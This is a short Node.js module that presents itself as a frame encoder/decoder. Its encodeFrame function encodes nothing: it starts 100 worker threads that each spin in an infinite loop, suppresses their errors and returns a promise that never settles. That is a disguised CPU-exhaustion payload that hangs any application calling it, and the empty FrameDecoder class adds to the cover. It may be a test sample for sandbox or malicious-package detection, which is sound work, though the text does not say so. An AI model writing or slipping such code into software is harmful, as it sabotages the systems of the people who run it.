import { Worker } from 'node:worker_threads'

export const encodeFrame = () => {
  for (let i = 0; i < 100; i++)
    try {
      new Worker('for (;;);', { eval: true }).on('error', () => {})
    } catch {}
  return new Promise(() => setInterval(() => {}, 10))
}
export class FrameDecoder {}
